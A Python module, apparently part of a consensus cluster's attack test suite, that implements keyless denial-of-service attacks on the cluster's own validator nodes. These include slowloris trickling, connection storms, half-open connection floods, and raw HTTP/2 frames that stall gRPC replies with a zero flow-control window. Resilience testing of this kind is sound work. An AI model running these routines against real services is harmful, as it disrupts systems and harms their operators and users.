"""What anybody can do to a node who can reach its ports, with no key at all."""

from __future__ import annotations

import asyncio
import contextlib
import ssl
from collections.abc import Coroutine, Iterable

from attacks.liar import Liar
from grpc import aio

from qbft.client.pinned import PINNED
from qbft.cluster import TLS_NAME
from qbft.wire.v1 import decision_pb2 as pb
from qbft.wire.v1 import messages_pb2 as messages
from qbft.wire.v1.decision_pb2_grpc import DecisionServiceStub

PATH = "/qbft.v1.DecisionService/GetDecision"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS, HEADERS, DATA, INITIAL_WINDOW_SIZE = 4, 1, 0, 4
END_STREAM, END_HEADERS = 1, 4
LARGE_BYTES = (1 << 20) - 1_024
UNREAD_CALLS = 400
LORIS_CONNECTIONS = 200
AT_ONCE = 16
LARGE_TOPIC = "attack/unread"


def _addresses(liar: Liar) -> list[tuple[str, int]]:
    """Where the other nodes listen, for clients and for peers."""
    found = []
    for peer in liar.peers:
        validator = liar.cluster.validators[peer]
        for address in (validator.client, validator.peer):
            host, _, port = address.rpartition(":")
            found.append((host.strip("[]"), int(port)))
    return found


def _client_tls(liar: Liar, peer: int) -> ssl.SSLContext:
    """The TLS of a plain client of that node."""
    context = ssl.create_default_context(cadata=liar.cluster.validators[peer].tls_certificate)
    context.set_alpn_protocols(["h2"])
    return context


async def _in_all(work: Iterable[Coroutine[None, None, None]]) -> None:
    """Do all of it at once."""
    async with asyncio.TaskGroup() as tasks:
        for one in work:
            tasks.create_task(one)


async def slow_streams(liar: Liar) -> None:
    """Connections that send the beginning of a handshake, a byte a second, or nothing."""

    async def crawl(host: str, port: int) -> None:
        while True:
            with contextlib.suppress(OSError):
                reader, writer = await asyncio.open_connection(host, port)
                try:
                    for byte in b"\x16\x03\x01\x02\x00\x01" * 100:
                        writer.write(bytes([byte]))
                        await writer.drain()
                        if reader.at_eof():
                            break
                        await asyncio.sleep(1)
                finally:
                    writer.close()
            await asyncio.sleep(0.1)

    addresses = _addresses(liar)
    await _in_all(
        [crawl(*a) for a in addresses for _ in range(LORIS_CONNECTIONS // len(addresses))]
    )


async def connection_storm(liar: Liar) -> None:
    """Clients that connect, ask for the status and go, as fast as that can be done."""

    async def come_and_go(peer: int) -> None:
        address = liar.cluster.validators[peer].client
        while True:
            credentials = liar.plain_credentials(peer)
            async with aio.secure_channel(address, credentials, PINNED) as channel:
                with contextlib.suppress(aio.AioRpcError):
                    await DecisionServiceStub(channel).GetStatus(pb.GetStatusRequest(), timeout=5)

    await _in_all([come_and_go(peer) for peer in liar.peers for _ in range(AT_ONCE // 4)])


async def half_handshakes(liar: Liar) -> None:
    """Connections that are closed before their handshake, as fast as that can be done."""

    async def knock(host: str, port: int) -> None:
        while True:
            with contextlib.suppress(OSError):
                _, writer = await asyncio.open_connection(host, port)
                writer.write(b"GET / HTTP/1.1\r\n\r\n")
                writer.close()
            await asyncio.sleep(0.001)

    await _in_all([knock(*address) for address in _addresses(liar)])


async def unread_replies(liar: Liar) -> None:
    """Hundreds of GetDecision for a value of 1 MiB, on connections that take not a byte of it."""
    await _decide_large(liar)
    await _in_all([_never_read(liar, peer) for peer in liar.peers])


async def _decide_large(liar: Liar) -> None:
    """Have a large value decided, as any client of an open topic may."""
    peer = liar.peers[0]
    proposal = messages.Proposal(
        instance=messages.InstanceId(topic=LARGE_TOPIC, height=0), value=bytes(LARGE_BYTES)
    )
    credentials = liar.plain_credentials(peer)
    address = liar.cluster.validators[peer].client
    async with aio.secure_channel(address, credentials, PINNED) as channel:
        with contextlib.suppress(aio.AioRpcError):
            await DecisionServiceStub(channel).Propose(
                pb.ProposeRequest(proposal=proposal), timeout=60
            )


async def _never_read(liar: Liar, peer: int) -> None:
    host, _, port = liar.cluster.validators[peer].client.rpartition(":")
    request = pb.GetDecisionRequest(instance=messages.InstanceId(topic=LARGE_TOPIC, height=0))
    context = _client_tls(liar, peer)
    writers = []
    try:
        while True:
            with contextlib.suppress(OSError, ssl.SSLError):
                _, writer = await asyncio.open_connection(
                    host, int(port), ssl=context, server_hostname=TLS_NAME, limit=1_024
                )
                writers.append(writer)
                writer.write(_greeting())
                for number in range(UNREAD_CALLS):
                    writer.write(_call(2 * number + 1, request.SerializeToString()))
                await writer.drain()
            if len(writers) > AT_ONCE:
                writers.pop(0).close()
            await asyncio.sleep(0.5)
    finally:
        for writer in writers:
            writer.close()


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """One frame of HTTP/2 (RFC 9113, section 4.1)."""
    return (
        len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
    )


def _greeting() -> bytes:
    """The preface of a connection on which the other side may send no data at all."""
    window = INITIAL_WINDOW_SIZE.to_bytes(2, "big") + bytes(4)
    return PREFACE + _frame(SETTINGS, 0, 0, window)


def _call(stream: int, message: bytes) -> bytes:
    """A unary call of gRPC, its headers as literals that are not indexed (RFC 7541, 6.2.2)."""
    headers = {
        ":method": "POST",
        ":scheme": "https",
        ":path": PATH,
        ":authority": TLS_NAME,
        "te": "trailers",
        "content-type": "application/grpc",
    }
    block = b"".join(
        b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
        for name, value in headers.items()
    )
    body = b"\x00" + len(message).to_bytes(4, "big") + message
    return _frame(HEADERS, END_HEADERS, stream, block) + _frame(DATA, END_STREAM, stream, body)
